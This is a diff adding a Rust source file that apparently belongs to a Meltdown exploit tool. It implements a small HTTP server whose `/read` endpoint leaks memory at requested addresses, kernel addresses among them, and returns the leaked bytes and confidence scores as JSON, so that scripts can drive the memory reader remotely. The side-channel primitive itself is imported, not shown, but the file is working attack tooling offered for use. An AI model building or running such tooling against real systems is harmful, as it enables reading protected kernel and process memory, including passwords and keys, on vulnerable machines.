@@ -0,0 +1,176 @@
+//! Just enough of HTTP/1.1 to serve leaked reads as JSON, so notebooks and
+//! scripts in other languages can drive the reader with their usual HTTP
+//! client.
+//!
+//! `GET /read?addr=0xffffffff81000000&len=4` is answered with
+//!
+//! ```json
+//! {"addr": "0xffffffff81000000", "len": 4, "bytes": [72, 101, null, 108],
+//!  "confidence": [0.9, 1, 0, 0.7]}
+//! ```
+//!
+//! where `bytes` is null for bytes that didn't leak, and `confidence` is the
+//! fraction of probe rounds that agreed on each byte. The address is given
+//! back as a string, since JSON numbers can't hold every 64 bit address
+//! exactly. Numbers in the query are in hex with a `0x` prefix, and decimal
+//! otherwise, and `len` can be left out to read 256 bytes. Every response
+//! closes the connection.
+
+use std::io::{self, BufRead, Read, Write};
+
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+
+/// The most bytes a single request can read.
+pub const MAX_READ: usize = 0x10000;
+
+// the longest request line or header taken, well past any sane request
+const MAX_LINE: usize = 8192;
+
+/// A response, before it is written.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Response {
+    pub status: u16,
+    pub body: String,
+}
+
+impl Response {
+    fn json(body: String) -> Response {
+        Response { status: 200, body }
+    }
+
+    // the message is put in the body as it is, so it can't have quotes or
+    // backslashes
+    fn error(status: u16, message: &str) -> Response {
+        Response {
+            status,
+            body: format!("{{\"error\": \"{}\"}}", message),
+        }
+    }
+
+    fn reason(&self) -> &'static str {
+        match self.status {
+            200 => "OK",
+            400 => "Bad Request",
+            404 => "Not Found",
+            405 => "Method Not Allowed",
+            _ => "Error",
+        }
+    }
+}
+
+fn parse_number(s: &str) -> Option<usize> {
+    if s.starts_with("0x") || s.starts_with("0X") {
+        usize::from_str_radix(&s[2..], 16).ok()
+    } else {
+        s.parse().ok()
+    }
+}
+
+// the value of key in a query string
+fn query_value<'a>(query: &'a str, key: &str) -> Option<&'a str> {
+    query
+        .split('&')
+        .map(|pair| pair.splitn(2, '='))
+        .filter_map(|mut pair| match (pair.next(), pair.next()) {
+            (Some(name), Some(value)) if name == key => Some(value),
+            _ => None,
+        })
+        .next()
+}
+
+// reads a line of the request, without its line ending. None if the
+// connection closed before one came
+fn read_line<R: BufRead>(input: &mut R) -> io::Result<Option<String>> {
+    let mut line = Vec::new();
+    input.by_ref().take(MAX_LINE as u64).read_until(b'\n', &mut line)?;
+    if line.last() != Some(&b'\n') {
+        return Ok(None);
+    }
+    while line.last() == Some(&b'\n') || line.last() == Some(&b'\r') {
+        line.pop();
+    }
+    Ok(Some(String::from_utf8_lossy(&line).into_owned()))
+}
+
+/// Answers requests for `/read` by leaking the memory they ask for.
+pub struct Server<'a, S: ExceptionSuppressor + 'a> {
+    reader: &'a MeltdownReader<S>,
+}
+
+impl<'a, S: ExceptionSuppressor> Server<'a, S> {
+    pub fn new(reader: &'a MeltdownReader<S>) -> Server<'a, S> {
+        Server { reader }
+    }
+
+    fn read(&self, query: &str) -> Response {
+        let addr = match query_value(query, "addr").and_then(parse_number) {
+            Some(addr) => addr,
+            None => return Response::error(400, "expected a number in `addr`"),
+        };
+        let len = match query_value(query, "len").map(parse_number) {
+            None => 256,
+            Some(Some(len)) if len <= MAX_READ => len,
+            Some(_) => return Response::error(400, "`len` has to be a number up to 65536"),
+        };
+        let guesses = self.reader.guess_range(addr as *const u8, len);
+        let bytes: Vec<String> = guesses
+            .iter()
+            .map(|guess| guess.value.map_or("null".to_owned(), |byte| byte.to_string()))
+            .collect();
+        let confidence: Vec<String> = guesses
+            .iter()
+            .map(|guess| guess.confidence().to_string())
+            .collect();
+        Response::json(format!(
+            "{{\"addr\": \"0x{:x}\", \"len\": {}, \"bytes\": [{}], \"confidence\": [{}]}}",
+            addr,
+            len,
+            bytes.join(", "),
+            confidence.join(", ")
+        ))
+    }
+
+    /// The response to a request for `target` with `method`.
+    pub fn handle(&self, method: &str, target: &str) -> Response {
+        let mut parts = target.splitn(2, '?');
+        let path = parts.next().unwrap_or("");
+        let query = parts.next().unwrap_or("");
+        if path != "/read" {
+            return Response::error(404, "the only endpoint is /read");
+        }
+        if method != "GET" {
+            return Response::error(405, "/read only takes GET");
+        }
+        self.read(query)
+    }
+
+    /// Answers the request on `input` on `output`. Headers and any body are
+    /// ignored.
+    pub fn serve<R: BufRead, W: Write>(&self, mut input: R, mut output: W) -> io::Result<()> {
+        let request_line = match read_line(&mut input)? {
+            Some(line) => line,
+            None => return Ok(()),
+        };
+        while let Some(header) = read_line(&mut input)? {
+            if header.is_empty() {
+                break;
+            }
+        }
+        let mut parts = request_line.split_whitespace();
+        let response = match (parts.next(), parts.next()) {
+            (Some(method), Some(target)) => self.handle(method, target),
+            _ => Response::error(400, "malformed request line"),
+        };
+        write!(
+            output,
+            "HTTP/1.1 {} {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
+             Connection: close\r\n\r\n{}",
+            response.status,
+            response.reason(),
+            response.body.len(),
+            response.body
+        )?;
+        output.flush()
+    }
+}